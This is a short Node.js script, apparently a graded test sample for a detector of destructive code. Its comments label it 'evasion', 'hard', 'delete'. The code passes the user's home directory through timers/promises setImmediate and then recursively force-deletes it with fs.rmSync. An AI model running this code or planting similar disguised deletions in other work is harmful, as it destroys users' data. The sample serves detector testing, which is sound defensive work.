// evasion: timers/promises setImmediate resolves with the home; then() deletes it
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const timers = require('node:timers/promises');

timers.setImmediate(os.homedir()).then((d) => fs.rmSync(d, { recursive: true, force: true }));
